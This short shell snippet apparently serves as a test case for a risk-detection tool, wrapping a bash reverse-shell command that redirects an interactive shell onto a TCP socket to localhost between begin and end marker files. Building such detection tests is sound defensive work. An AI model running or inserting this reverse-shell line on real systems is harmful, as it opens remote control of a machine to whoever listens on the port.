# revshell (bash): /dev/tcp redirection onto 0/1/2 of an interactive shell.
test -e /archangel-riskdata/begin/revshell
bash -c "bash -i >& /dev/tcp/127.0.0.1/$RD_PORT 0>&1"
test -e /archangel-riskdata/end
